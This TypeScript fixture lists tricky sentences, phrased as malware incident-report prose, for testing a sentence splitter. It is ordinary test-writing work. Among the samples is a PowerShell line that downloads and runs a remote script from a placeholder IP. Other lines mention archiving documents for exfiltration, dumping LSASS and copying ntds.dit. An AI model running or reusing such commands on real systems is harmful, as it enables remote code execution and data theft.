/**
 * Sentences of incident reports that naive splitters cut wrongly, written for this project. `‖` marks where a new
 * sentence starts; it is taken out before the text is split.
 */
export const TRICKY_SENTENCES: readonly string[] = [
	// versions, decimals, dates, times
	"The server ran Exchange 2019 CU 14.1.2507.6 at that time. ‖It was not patched.",
	"Version 2.4.1. of the loader adds a mutex. ‖The older 1.9 build has none.",
	"The archive is 3.5 MB large. ‖14 hosts received it on 12.03.2024. ‖Two of them opened it.",
	"The beacon slept until 5 p.m. ‖The next run came at 3 a.m. UTC on Friday.",
	"On Jan. 5 the first mail arrived. ‖By Sept. 2021 the campaign had stopped.",
	"The flaw was fixed in 2021. ‖14 vendors still ship the old library.",
	// file names and commands
	"The document starts cmd.exe and powershell.exe. ‖Both run hidden.",
	"The dropper writes a file. ‖mshta.exe is called next.",
	"It abuses rundll32.exe to load update.dll,Start. ‖rundll32 then exits.",
	"The script ends with setup.exe. ‖The service starts after a reboot.",
	"Data is packed with rar.exe a -hp out.rar *.docx and sent away. ‖macOS hosts were spared.",
	"The macro runs powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.4/a.ps1')\". ‖Then it sleeps.",
	"The actor typed cd .. && ./run.sh before leaving. ‖Nothing else was logged.",
	"A shell ran in /var/www/html/.cache/x.php. ‖/tmp/.ssh.pid was removed.",
	// paths and registry keys
	"It copies itself to C:\\ProgramData\\Acme Corp.\\svc.exe. ‖The copy is signed.",
	"Persistence uses HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater.1. ‖The value points to %APPDATA%\\u.exe.",
	"The key HKLM\\SYSTEM\\CurrentControlSet\\Services\\svc.5 is set. ‖$env:TEMP holds the payload.",
	// addresses, plain and defanged
	"The implant calls hxxps://cdn[.]example[.]com/gate.php?id=1&v=2.0. ‖It waits for a task.",
	"Traffic went to 203.0.113[.]7 and 198.51.100[.]23. ‖Port 443 was used.",
	"The page http://www.example.org/a?b=c. ‖The page was taken down.",
	"Mail came from j.doe@example.com. ‖billing@example[.]net was copied.",
	"Is the host evil[.]example. still up? ‖Nobody knows.",
	"The request hxxp://a.example/gate.php?step=2 is sent twice. ‖hxxp://b.example/x?y is a fallback.",
	"The domain update(.)example{.}net resolved to 192.0.2.10. ‖Later it moved.",
	"DNS over UDP/53 goes to 192.0.2.53. ‖192.0.2.54 answers too.",
	// ATT&CK ids
	"The actor used T1059.001. ‖T1105 followed an hour later.",
	"Mapped techniques: T1566.001, T1204.002 and T1027. ‖See https://attack.mitre.org/techniques/T1027/. ‖The rest is unknown.",
	"The report names T1547. 001 as persistence. ‖No more was found.",
	// abbreviations
	"Several tools, e.g. Mimikatz and LaZagne, were used. ‖Others, i.e. custom ones, were not.",
	"The flaw, a.k.a. Log4Shell, was exploited. ‖Patches exist.",
	"The analysts compared Linux vs. Windows hosts. ‖Windows lost.",
	"The malware was sold by Acme Inc. ‖The company denies it.",
	"Acme Inc. Windows servers were the first target. ‖Later came Linux.",
	"The U.S. Department of Justice named two men. ‖They live outside the U.S. ‖The case is open.",
	"Dr. Weber and Mr. Osei found it. ‖Prof. Lind confirmed it.",
	"The group of J. Smith and A. B. Jones wrote the tool. ‖It is public.",
	"See Fig. 3 and Sec. 2 for details. ‖The answer was No. ‖Rule No. 5 failed.",
	"Tanaka et al. described the loader. ‖Their copy was older.",
	"Browsers, mail clients, etc. are searched. ‖Passwords, cookies, etc. ‖The rest stays.",
	"The tool (v. 2 or later, incl. Beta builds) steals tokens. ‖It needs admin rights.",
	"The payload is a .NET assembly. ‖.NET loaders are common. ‖The .dll is obfuscated with ASP.NET code.",
	// citations, quotes, parentheses, ellipses
	"The group reused old certificates [1]. ‖It also signed drivers.[2][3] ‖The keys leaked. [4, 5] ‖Nobody noticed.",
	'The note said "Pay now." ‖The victim did not. ‖"Why us?" asked the owner.',
	"The mail was short (it had one link). ‖(The link is dead.) ‖A second mail came.",
	"The loader waits... and waits. ‖Then it stops... ‖The next stage is empty.",
	"It sleeps… ‖Then it wakes. ‖The log reads “[...] done” at the end.",
	"Who is behind it?! ‖We do not know! ‖Yahoo! Mail accounts were used.",
	"The backdoor stops the host.‖The loader then deletes itself. ‖It leaves no file.",
	"The group encrypts servers.12 ‖The ransom note is a text file.",
	// lists, numbered steps, headings
	"Steps of the attack:\n‖1. The victim opens the file.\n‖2. The macro runs. ‖It starts wscript.exe.\n‖3) The host calls home",
	"The chain is short: 1. The victim clicks. ‖2. The loader runs. ‖3. The data leaves.",
	"- Dumps LSASS memory\n‖- Clears the event log. ‖It uses wevtutil.exe.\n‖• Deletes shadow copies",
	"Step 1. The actor scans the network.\n‖Step 2. A share is mounted.",
	"Lateral Movement\n‖The actor used PsExec to reach other hosts.\n‖\nExfiltration\n‖Data left through rclone.",
	"## Persistence\n‖A scheduled task starts the implant.\n\n‖Figure 2. Tasks made by the loader.",
	"C2 servers\n‖evil[.]example\n‖bad[.]example\n‖203.0.113.9\n‖They were active in May.",
	"SHA256: 0f1e2d3c\n‖Size: 12 KB\n‖Name: a.exe",
	// wrapped lines and code
	"The actor sent a mail with a link to a page that\nlooked like the login form of the company and took\nthe password. ‖It was then used for VPN access.",
	"After the break-in the intruders moved to the domain controller of the\nWindows network, where they copied the file ntds.dit and the SYSTEM hive to\na share. ‖The share was open.",
	"The implant gathers the host name, the user name and the list of run-\r\nning processes.\r\n‖\r\nIt then sleeps.",
	"The following commands were run:\n‖whoami /all\n‖net user /domain\n‖The output was saved.",
	"The group is known by several names, e.g.\nSilver Heron, and works from one country.",
	// other scripts and odd characters
	"攻击者发送了邮件。‖受害者打开了附件！‖然后呢？‖没有人知道。",
	"استخدم المهاجم البريد. ‖هل فتح الضحية الملف؟ ‖نعم.",
	"Der Angreifer nutzte cmd.exe. ‖Überall fand man Spuren.",
	"The stage is done. ‖🚀 The next one starts! ‖👍",
	"The log\twas cut\u0000 here. ‖The rest\u00a0is lost.\f‖New page",
];
